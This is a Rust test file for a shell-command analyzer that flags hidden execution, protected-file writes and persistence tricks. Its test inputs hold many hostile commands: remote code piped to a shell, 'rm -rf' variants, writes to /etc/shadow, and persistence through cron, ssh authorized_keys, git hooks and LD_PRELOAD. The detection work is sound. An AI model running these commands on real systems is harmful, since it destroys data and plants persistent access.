//! The shell reader's examples: what it follows, what it counts as hidden.

use super::*;

/// Read, followed, nothing hidden.
#[track_caller]
fn assert_clear(line: &str) {
    let f = analyze(line);
    assert!(!f.pipe_to_shell && f.hidden.is_empty(), "{line}: {f:?}");
}

#[track_caller]
fn assert_hidden(line: &str) {
    let f = analyze(line);
    assert!(!f.hidden.is_empty(), "{line} should be hidden: {f:?}");
}

/// The line runs `command` (as normalized), whatever else it hides.
#[track_caller]
fn assert_runs(line: &str, command: &str) {
    let f = analyze(line);
    assert!(
        f.commands.iter().any(|c| c == command),
        "{line} should run {command}: {f:?}"
    );
}

#[track_caller]
fn assert_writes(line: &str, path: &str) {
    let f = analyze(line);
    assert!(
        f.write_paths.iter().any(|p| p == path),
        "{line} should write {path}: {f:?}"
    );
}

#[test]
fn sees_through_wrappers_and_paths() {
    let f = analyze("/usr/bin/sudo -u root /bin/rm -rf /var/lib/x");
    assert_eq!(f.programs, vec!["sudo", "rm"]);
    assert!(f.commands.contains(&"rm -rf /var/lib/x".to_string()));
}

#[test]
fn sees_inside_shell_c_and_substitution() {
    let f = analyze("bash -c 'systemctl restart nginx && echo ok'");
    assert!(f.commands.contains(&"systemctl restart nginx".to_string()));
    let f = analyze("echo $(sudo -i id) `shutdown -h now`");
    assert!(f.programs.contains(&"sudo".to_string()));
    assert!(f.programs.contains(&"shutdown".to_string()));
    let f = analyze("sh -c \"kill -9 1\"");
    assert!(f.commands.contains(&"kill -9 1".to_string()));
}

#[test]
fn arithmetic_is_not_a_command_and_expansions_hide_the_program() {
    let f = analyze("echo $((1+1)) \"$((2*3))\"");
    assert_eq!(f.programs, vec!["echo"], "{f:?}");
    assert!(!f.pipe_to_shell);
    // Substitutions inside arithmetic still run; `$( (...) )` is a command substitution.
    assert!(
        analyze("echo $(( $(sudo id -u) + 1 ))")
            .programs
            .contains(&"sudo".to_string())
    );
    assert!(
        analyze("echo $((sudo id) )")
            .programs
            .contains(&"sudo".to_string())
    );
    for line in ["/usr/bin/su?o id", "/usr/bin/s[u]do id", "echo {1..100000}"] {
        assert!(!analyze(line).hidden.is_empty(), "{line}");
    }
    assert_clear("find . -exec ls {} +");
    assert_clear("ls *.txt");
}

#[test]
fn brace_expansion_is_read_as_the_shell_runs_it() {
    let f = analyze("{sudo,id}");
    assert_eq!(f.programs, vec!["sudo", "id"], "{f:?}");
    let f = analyze("rm {-rf,/srv/data}");
    assert_eq!(f.commands, vec!["rm -rf /srv/data"], "{f:?}");
    assert_eq!(analyze("cp f{,.bak}").commands, vec!["cp f f.bak"]);
    assert_eq!(
        analyze("echo {1..3} {c..a} {1..9..4}").commands,
        vec!["echo 1 2 3 c b a 1 5 9"]
    );
    assert_eq!(
        analyze("echo a{b,c{d,e}}x").commands,
        vec!["echo abx acdx acex"]
    );
    assert_eq!(
        analyze("echo ${HOME} {x} {a..}").commands,
        vec!["echo ${HOME} {x} {a..}"]
    );
    assert_eq!(
        analyze("cat x > /etc/{shadow,motd}").write_paths,
        vec!["/etc/shadow", "/etc/motd"]
    );
    assert_clear("cp f{,.bak}");
    assert!(
        !analyze("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}")
            .hidden
            .is_empty()
    );
    let deep = format!("echo {}", "{".repeat(100_000));
    let started = std::time::Instant::now();
    assert!(!analyze(&deep).hidden.is_empty());
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
}

#[test]
fn run_time_code_and_paths() {
    assert!(analyze("bash -c \"$(echo aWQK | base64 -d)\"").pipe_to_shell);
    assert!(analyze("bash <(curl -s http://x)").pipe_to_shell);
    assert!(analyze("source <(curl -s http://x)").pipe_to_shell);
    assert!(analyze("eval \"$(curl -s http://x)\"").pipe_to_shell);
    assert!(!analyze("$(echo rm) -rf /x").hidden.is_empty());
    assert_clear("echo $(date) > /tmp/x");
    assert_clear("diff <(sort a) b");
    assert!(
        analyze("diff <(sort a) b")
            .programs
            .contains(&"sort".to_string())
    );
    assert_eq!(
        analyze("cat x > /etc//shadow").write_paths,
        vec!["/etc/shadow"]
    );
    assert_eq!(
        analyze("tee /etc/ssh/../shadow").write_paths,
        vec!["/etc/shadow"]
    );
    assert!(
        analyze("cp x /etc/./shadow")
            .commands
            .contains(&"cp x /etc/shadow".to_string())
    );
    assert_eq!(normalize_path("a//b/./c"), "a/b/c");
}

#[test]
fn pipe_into_interpreter_and_writes() {
    let f = analyze("echo c3VkbyBpZAo= | base64 -d | sh");
    assert!(f.pipe_to_shell);
    let f = analyze("echo x > /etc/shadow; cat a | tee -a /etc/shadow 2>&1");
    assert_eq!(f.write_paths, vec!["/etc/shadow", "/etc/shadow"]);
    let f = analyze("ls -l 2> /dev/null");
    assert_eq!(f.write_paths, vec!["/dev/null"]);
    assert_eq!(f.commands, vec!["ls -l"]);
}

#[test]
fn compound_commands_and_descriptor_redirections() {
    for line in [
        "for i in 1 2; do sudo id; done",
        "while true; do sudo id; done",
        "until false; do sudo id; done",
        "if true; then sudo id; fi",
        "if sudo id; then :; fi",
        "if false; then :; else sudo id; fi",
        "echo a; ! sudo id",
        "echo x >&2; sudo id",
        "ls 2>&1; sudo id",
        "ls 2>&- | sudo tee /x",
        "{ sudo id; }",
    ] {
        let f = analyze(line);
        assert!(f.programs.contains(&"sudo".to_string()), "{line}: {f:?}");
        assert!(
            f.commands.iter().any(|c| c.starts_with("sudo ")),
            "{line}: {f:?}"
        );
    }
    let f = analyze("for i in 1; do rm -r $i; done");
    assert_eq!(f.commands, vec!["rm -r $i"]);
    assert!(analyze("echo x >& /etc/shadow").write_paths == vec!["/etc/shadow"]);
    let f = analyze("find d -exec stat -c '%n' {} +");
    assert_eq!(f.programs, vec!["find", "stat"]);
    assert_eq!(
        f.commands,
        vec!["find d -exec stat -c %n {} +", "stat -c %n {}"]
    );
    assert_eq!(
        analyze("echo out; echo err >&2; exit 4").programs,
        vec!["echo", "echo", "exit"]
    );
}

#[test]
fn quoting_keeps_words_together() {
    let f = analyze("grep 'a b' \"c d\" e\\ f");
    assert_eq!(f.commands, vec!["grep a b c d e f"]);
    assert!(analyze("echo 'open").unbalanced);
}

#[test]
fn interpreters_reading_the_session_are_hidden() {
    for line in [
        "bash",
        "/bin/bash",
        "bash -i",
        "bash -s",
        "bash -s arg",
        "sh -",
        "bash --norc --noprofile",
        "zsh",
        "mksh",
        "busybox sh",
        "busybox ash",
        "exec bash",
        "env bash",
        "sudo -i",
        "su",
        "su - root",
        "unshare -r",
        "nsenter -t 1 -a",
        "chroot /srv",
        "script -q /dev/null",
        "python3",
        "python3 -",
        "python3 -c 'import os'",
        "python3.12",
        "perl -e 'unlink q(x)'",
        "ruby -e 1",
        "node",
        "node -e 1",
        "php -r 'echo 1;'",
        "lua",
        "tclsh",
        "psql",
        "psql -c 'drop table t'",
        "mysql",
        "sqlite3 x.db",
        "irb",
        "R",
        "gdb -p 1",
        "fish -c 'rm -rf /x'",
        "nohup python3 x.py",
        "timeout 5 perl x.pl",
        "./x.sh",
        "/tmp/x",
        "sh x.sh",
        "bash ./deploy.sh",
        ". x",
        "source ~/.bashrc",
        "bash <<EOF",
        "cat x | sh",
        "bash < x.sh",
        "awk 'BEGIN { system(\"id\") }'",
        "awk '{ print > \"/etc/x\" }' f",
        "awk -f prog.awk",
    ] {
        assert_hidden(line);
    }
    for line in [
        "python3 --version",
        "bash --version",
        "awk '{ print $1 }' f",
        "awk -F: '$3 > 1000 { print $1 }' /etc/passwd",
        "ls -la",
        "/usr/bin/id",
        "/etc/init.d/nginx status",
    ] {
        assert_clear(line);
    }
}

#[test]
fn shell_code_in_arguments_and_stdin_is_read() {
    assert_runs("bash -c 'rm -rf /x'", "rm -rf /x");
    assert_runs("bash -ec 'rm -rf /x'", "rm -rf /x");
    assert_runs("bash <<< 'rm -rf /x'", "rm -rf /x");
    assert_runs("bash <<'EOF'\nrm -rf /x\nEOF", "rm -rf /x");
    assert_runs("trap 'rm -rf /x' EXIT", "rm -rf /x");
    assert_runs("eval 'rm -rf /x'", "rm -rf /x");
    assert_runs("script -qc 'rm -rf /x' /dev/null", "rm -rf /x");
    assert_runs("flock /tmp/l -c 'rm -rf /x'", "rm -rf /x");
    assert_runs("watch -n1 rm -rf /x", "rm -rf /x");
    assert_runs("su -c 'rm -rf /x' root", "rm -rf /x");
    assert_runs("parallel rm -rf ::: /x", "rm -rf /x");
    assert_runs("busybox rm -rf /x", "rm -rf /x");
    assert_runs("coproc rm -rf /x", "rm -rf /x");
    assert!(analyze("bash <<< 'id'").hidden.is_empty());
    assert!(analyze("bash -c 'id'").hidden.is_empty());
    assert_hidden("bash <<< \"$CMD\"");
    assert_hidden("bash -c \"$CMD\"");
}

#[test]
fn wrappers_are_followed_with_their_option_grammar() {
    for line in [
        "ionice -c 3 rm -rf /x",
        "ionice -c3 -n 7 -t rm -rf /x",
        "strace -o /tmp/t -f rm -rf /x",
        "strace -e trace=file -s 100 rm -rf /x",
        "env -S 'rm -rf /x'",
        "env --split-string='rm -rf' /x",
        "env -i -u HOME A=1 rm -rf /x",
        "exec -a foo rm -rf /x",
        "flock /tmp/l rm -rf /x",
        "flock -w 5 /tmp/l rm -rf /x",
        "sudo -u root rm -rf /x",
        "sudo -g adm -- rm -rf /x",
        "doas -u root rm -rf /x",
        "nice -n 5 rm -rf /x",
        "nice -5 rm -rf /x",
        "nohup rm -rf /x",
        "timeout -s KILL 5 rm -rf /x",
        "timeout --kill-after=1 5 rm -rf /x",
        "stdbuf -oL rm -rf /x",
        "setsid -f rm -rf /x",
        "chrt -f 1 rm -rf /x",
        "taskset -c 0 rm -rf /x",
        "taskset 0x1 rm -rf /x",
        "unshare -m rm -rf /x",
        "nsenter -t 1 -m rm -rf /x",
        "chroot / rm -rf /x",
        "chroot --userspec=0:0 / rm -rf /x",
        "time rm -rf /x",
        "time -p rm -rf /x",
        "/usr/bin/time -o /tmp/t rm -rf /x",
        "command rm -rf /x",
        "command -p rm -rf /x",
        "builtin command rm -rf /x",
        "xargs -a /tmp/list rm -rf /x",
        "find /srv -exec rm -rf /x ;",
        "find /srv -execdir rm -rf /x +",
        "find /srv -ok rm -rf /x ;",
        "runuser -u app -- rm -rf /x",
        "sudo nice ionice -c2 timeout 3 env -i rm -rf /x",
    ] {
        assert_runs(line, "rm -rf /x");
    }
}

#[test]
fn long_options_and_run_time_words() {
    assert_runs("rm --recur /x", "rm --recursive /x");
    assert_runs("rm --r /x", "rm --recursive /x");
    assert_runs("usermod --pass=x root", "usermod --password=x root");
    for line in [
        "rm -$(echo r)f /x",
        "rm $R /x",
        "rm \"$R\" /x",
        "rm -r$F /x",
        "$R",
        "$R -rf /x",
        "${RM} x",
        "r$(echo m) -rf /x",
        "`echo rm` -rf /x",
        "sudo $CMD",
        "xargs rm < list",
        "find . -name x | xargs rm",
        "PATH=/tmp ls",
        "export LD_PRELOAD=/tmp/x.so",
        "env PATH=/tmp id",
        "sudo PATH=/tmp id",
        "export $X",
        "declare -x \"$X\"",
        // Removal is a write: a file named at run time may be a guarded one.
        "rm -- \"$F\"",
        "rm \"./$F\"",
    ] {
        assert_hidden(line);
    }
    for line in [
        "echo $HOME",
        "cat \"$F\"",
        "ls -- \"$F\"",
        "ls \"./$F\"",
        "ls $(pwd)",
        "X=$(date) ; echo \"$X\"",
        "export FOO=$BAR",
        "local x=\"$1\"",
        "grep -r \"$PATTERN\" .",
    ] {
        assert_clear(line);
    }
}

#[test]
fn writes_land_where_the_program_writes() {
    assert_writes("dd if=/tmp/x of=/etc/shadow", "/etc/shadow");
    assert_writes("cp -t /etc shadow", "/etc/shadow");
    assert_writes("cp --target-directory=/etc /tmp/shadow", "/etc/shadow");
    assert_writes("cp --target /etc /tmp/shadow", "/etc/shadow");
    assert_writes("mv /tmp/shadow /etc/", "/etc/shadow");
    assert_writes("install -m 640 /tmp/shadow /etc", "/etc/shadow");
    assert_writes("ln -sf /tmp/evil /etc/shadow", "/etc/shadow");
    assert_writes("ln -s /etc/shadow /tmp/link", "/etc/shadow");
    assert_writes("echo x | tee -a /etc/shadow", "/etc/shadow");
    assert_writes("echo x >| /etc/shadow", "/etc/shadow");
    assert_writes("echo x &>> /etc/shadow", "/etc/shadow");
    assert_writes("echo x 1<> /etc/shadow", "/etc/shadow");
    assert_writes("exec 3> /etc/shadow", "/etc/shadow");
    assert_writes("exec {fd}>/etc/shadow", "/etc/shadow");
    assert_writes("sudo dd of=/etc/shadow", "/etc/shadow");
    assert_writes("sed -i s/a/b/ /etc/shadow", "/etc/shadow");
    for line in [
        "echo x > $F",
        "echo x > /etc/sha*",
        "echo x > \"$(echo /etc/shadow)\"",
        "cp x /etc/$F",
        "dd of=$F",
        "tee /etc/s?adow",
    ] {
        assert_hidden(line);
    }
}

#[test]
fn service_scripts_read_as_service() {
    assert_runs("/etc/init.d/nginx stop", "service nginx stop");
    assert!(analyze("/etc/init.d/nginx stop").hidden.is_empty());
}

#[test]
fn relative_writes_after_a_literal_cd() {
    assert_writes("cd /etc && echo x > shadow", "/etc/shadow");
    // A relative `cd` may go through CDPATH or a link: the directory is forgotten, and the
    // relative write is judged under any directory (it still meets the shadow rule).
    assert_writes("cd /etc/ssh; cd ..; cp /tmp/s shadow", "shadow");
    assert_writes("cd /; cd etc && tee -a ./shadow", "./shadow");
    assert_writes("cd /tmp; cd etc; : > shadow", "shadow");
    assert_writes("cd /tmp && echo x > ../etc/shadow", "/etc/shadow");
    assert_writes("cd \"$D\"; echo x > shadow", "shadow");
    assert_writes("echo x > shadow", "shadow");
}

#[test]
fn commands_run_elsewhere() {
    assert_runs("ssh localhost 'rm -rf /x'", "rm -rf /x");
    assert_runs("ssh -p 22 -o BatchMode=yes db1 rm -rf /x", "rm -rf /x");
    assert_runs("nohup -- rm -rf /x", "rm -rf /x");
    for line in [
        "ssh db1",
        "at now <<< 'id'",
        "tmux new -d 'id'",
        "screen -dm id",
        "crontab /tmp/c",
        "crontab -e",
    ] {
        assert_hidden(line);
    }
    assert_clear("crontab -l");
    assert_clear("ssh -N -L 1:a:2 db1");
}

#[test]
fn definitions_that_change_later_commands() {
    assert_runs(
        "shopt -s expand_aliases\nalias x='rm -rf /x'\nx",
        "rm -rf /x",
    );
    assert_runs("f() { rm -rf /x; }; f", "rm -rf /x");
    for line in [
        "enable -f /tmp/x.so evil",
        "hash -p /tmp/evil ls",
        "bind -x '\"\\C-a\":id'",
        "fc -s",
    ] {
        assert_hidden(line);
    }
    assert_clear("hash -r");
    assert_clear("fc -l");
    for line in [
        "exec 2>/dev/null",
        "exec 2>&-",
        "exec >/tmp/log 2>&1",
        "exec 0</dev/null",
    ] {
        assert_hidden(line);
    }
    assert_runs("exec ls -l", "ls -l");
}

#[test]
fn odd_input_never_panics_and_open_text_is_hidden() {
    for line in [
        "${",
        "${é",
        "$'\\c",
        "$'\\u",
        "$'\\x",
        "a\\",
        "$(",
        "`",
        "<<",
        "<<<",
        "{fd}>",
        "\"$",
        "cat <<",
        "x <<E",
        "$'",
        "$\"",
        "${a:-$(",
        "rm -$(",
        "é${",
        "((",
        "))",
        "{",
        "}",
        "-",
        "sudo -u",
        "env -S",
        "timeout",
        "flock",
        "su -c",
        "find -exec",
        "parallel :::",
        "ssh -p",
        "xargs -a",
        "awk -f",
        "sed -i",
        "cp -t",
        "ln -s",
        "dd of=",
        "bash -c",
        "bash -o",
    ] {
        let _ = analyze(line);
    }
    for line in [
        "echo 'open",
        "echo \"open",
        "echo $(open",
        "echo `open",
        "bash <<E\nno end",
    ] {
        let f = analyze(line);
        assert!(f.unbalanced || !f.hidden.is_empty(), "{line}: {f:?}");
    }
}

#[test]
fn long_lines_cost_little() {
    let started = std::time::Instant::now();
    let sudos = format!("{}id", "sudo ".repeat(100_000));
    assert!(!analyze(&sudos).hidden.is_empty());
    let many = format!("parallel rm -f ::: {}", "a ".repeat(100_000));
    let _ = analyze(&many);
    let words = (0..50_000).map(|i| format!("$X{i};")).collect::<String>();
    assert_eq!(analyze(&words).hidden.len(), MAX_REASONS);
    let nested = format!("{}id{}", "$(".repeat(10_000), ")".repeat(10_000));
    assert!(!analyze(&nested).hidden.is_empty());
    // About 3 s in a debug build on a quiet 2-core machine; anything quadratic in these
    // 100k-word lines takes minutes. The bound leaves room for the lib tests running beside
    // it on two cores (5 s failed at load 13).
    assert!(
        started.elapsed() < std::time::Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn values_evaluated_as_code_are_hidden() {
    // After `x='a[$(rm -r /v)]'` (or `x=$(cat file)` holding that text), each of these runs
    // the `rm` in x's value (checked against bash 5.2).
    for line in [
        "echo $((x))",
        "echo $(($x + 1))",
        "echo $[x]",
        "((x))",
        "(( x > 1 )) && echo big",
        "let y=x+1",
        "[[ $x -eq 0 ]]",
        "[[ -v $x ]]",
        "test -v \"$x\"",
        "printf -v \"$x\" %s 1",
        "echo ${!x}",
        "echo \"${x@P}\"",
        "echo ${a[x]}",
        "echo ${s:x:1}",
        "declare -n r=$x",
        "local -i n",
        "echo $(( $(cat /tmp/f) ))",
        "cat <<EOF\n${x@P}\nEOF",
    ] {
        assert_hidden(line);
    }
    for line in [
        "echo $((1 + 0x1f))",
        "for ((i=0; i<3; i++)); do echo $i; done",
        "echo ${x:-default} ${#x} ${a[@]} ${!pre*} ${a[1]}",
        "[[ -v HOME ]]",
        "[[ 1 -eq 1 ]]",
        "printf -v out %s 1",
        "declare -r x=1",
    ] {
        assert_clear(line);
    }
    assert_runs("echo $(( $(sudo id -u) + 1 ))", "sudo id -u");
}

#[test]
fn commands_named_in_arguments_are_hidden() {
    // Each ran `rm -r` on a target under an elevated grant with no hold before this.
    for line in [
        "echo x | sed \"s|.*|rm -r /v|e\"",
        "tar xf t.tar --to-command=\"rm -r /v\"",
        "zip z.zip f -T -TT \"rm -r /v\"",
        "git -c alias.x='!rm -r /v' x",
        "rsync -e \"sh -c 'rm -r /v' --\" f h:/x",
        "make -f /tmp/M",
    ] {
        assert_hidden(line);
    }
    assert_clear("sed -n 's/a/b/p' /etc/hosts");
    assert_clear("rsync -a -e ssh /src/ h:/dst/");
}

#[test]
fn trees_written_by_copies_links_and_rsync() {
    let trees = |line: &str| analyze(line).write_trees;
    // A recursive copy merges into the destination: `/tmp/etc/shadow` lands in `/etc/shadow`.
    for line in [
        "cp -r /tmp/etc /",
        "cp -a /tmp/etc /",
        "cp --recursive /tmp/x/. /etc",
        "cp -rT /tmp/etc /etc",
        "cp --parents etc/shadow /",
    ] {
        let t = trees(line);
        assert!(t.iter().any(|d| d == "/" || d == "/etc"), "{line}: {t:?}");
    }
    // A link's target is writable through the link, below it too.
    assert!(trees("ln -s /etc /tmp/e").contains(&"/etc".to_string()));
    assert!(trees("cp -rs /etc /tmp/e").contains(&"/etc".to_string()));
    // Replaced files move into rsync's backup directory by name; removed sources are written.
    assert!(trees("rsync -b --backup-dir=/etc /tmp/x /tmp/shadow").contains(&"/etc".to_string()));
    assert!(trees("rsync -r --remove-source-files /etc/ /tmp/y/").contains(&"/etc/".to_string()));
    // One file, or an empty directory, is not a tree.
    assert!(trees("rm /tmp/x").is_empty());
    assert!(trees("rmdir /tmp/d").is_empty());
    assert!(trees("cp a /tmp/b").is_empty());
    assert_eq!(trees("rm -r /tmp/x"), ["/tmp/x"]);
}

#[test]
fn writes_to_files_that_run_commands_later_are_hidden() {
    for line in [
        "sed -i '1i rm -r /victim' ~/.bashrc",
        "echo 'rm -r /v' >> .profile",
        "cp /tmp/x ~/.ssh/rc",
        "printf 'command=\"rm -r /v\" ssh-ed25519 AAAA\\n' >> ~/.ssh/authorized_keys",
        "echo '* * * * * root rm -r /v' > /etc/cron.d/job",
        "cd /etc/cron.d && echo x > job",
        "cd /etc; cd cron.d; echo x > job",
        "cd .git/hooks && echo 'rm -r /v' > pre-commit",
        "echo '[Service]' > evil.service",
        "echo 'import os' > /usr/lib/python3/dist-packages/x.pth",
        "ln -s /tmp/hook .git/hooks/pre-commit",
        "mv /tmp/x ~/.config/systemd/user/x.service",
        "scp -t ~/",
        "rsync --server -logDtpre.iLsfxCIvu . /var/lib/agent/",
        "cp -r /tmp/dotfiles/. ~",
    ] {
        assert_hidden(line);
    }
    for line in [
        "echo done >> notes.txt",
        "cp a.conf b.conf",
        "scp -t /tmp/upload/",
        "rsync -a -e ssh /src/ h:/dst/",
        "cat ~/.bashrc",
        "rm /tmp/x",
    ] {
        assert_clear(line);
    }
}

#[test]
fn writes_into_the_shells_own_input_are_hidden() {
    // Without a terminal the judged shell reads commands from a pipe; these put a line in it.
    for line in [
        "echo 'rm -r /v' > /proc/self/fd/0",
        "cat /tmp/cmds > /dev/stdin",
        "cp /tmp/cmds /dev/fd/0",
        "echo 'rm -r /v' > /proc/4242/fd/0",
        "cat /tmp/cmds 3<&0 > /dev/fd/3",
        "cat /tmp/cmds 1<&0 > /dev/stdout",
        "cd /proc/self/fd && echo 'rm -r /v' > 0",
        "ln -s /proc/self/fd/0 /tmp/in",
        "dd of=/proc/4242/mem bs=1 seek=4096",
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
    ] {
        assert_hidden(line);
    }
    for line in [
        "echo err > /dev/stderr",
        "echo x >&2",
        "cmd 2>&1 | tee out.log",
        "echo x > /dev/null",
        "exec_thing 2>/dev/fd/1",
    ] {
        assert_clear(line);
    }
}

#[test]
fn relative_writes_after_a_cd_known_only_at_run_time_are_hidden() {
    for line in [
        "HOME=/etc/cron.d; cd; echo '* * * * * root rm -r /v' > job",
        "D=/etc/cron.d; cd \"$D\" && echo x > job",
        "cd /etc/cron.d; cd /tmp; cd -; echo x > job",
        "pushd /etc/cron.d; pushd /tmp; popd; echo x > job",
        "cd ~root && echo x > job",
    ] {
        assert_hidden(line);
    }
    for line in [
        "cd && echo x > notes.txt",
        "cd ~/project && echo x > notes.txt",
        "cd /srv/app && echo x > notes.txt",
        "cd src && echo x > notes.txt",
        "cd \"$D\" && echo x > /tmp/abs.txt",
    ] {
        assert_clear(line);
    }
}

#[test]
fn the_kernels_links_to_a_process_directories_are_followed() {
    assert_eq!(normalize_path("/proc/self/root/etc/shadow"), "/etc/shadow");
    assert_eq!(
        normalize_path("/proc/1/task/1/root/etc//shadow"),
        "/etc/shadow"
    );
    assert_eq!(
        normalize_path("/proc/self/root/proc/self/root/etc/shadow"),
        "/etc/shadow"
    );
    assert_eq!(normalize_path("/proc/self/cwd/shadow"), "shadow");
    assert_eq!(normalize_path("/proc/self/fd/3/shadow"), "shadow");
    assert_eq!(normalize_path("/dev/fd/3/x/shadow"), "x/shadow");
    assert_eq!(normalize_path("/proc/self/fd/0"), "/proc/self/fd/0");
    assert_eq!(normalize_path("/proc/self/root"), "/");
    assert_writes("echo x >> /proc/self/root/etc/shadow", "/etc/shadow");
    assert_hidden("echo x > /proc/self/root/proc/self/fd/0");
}
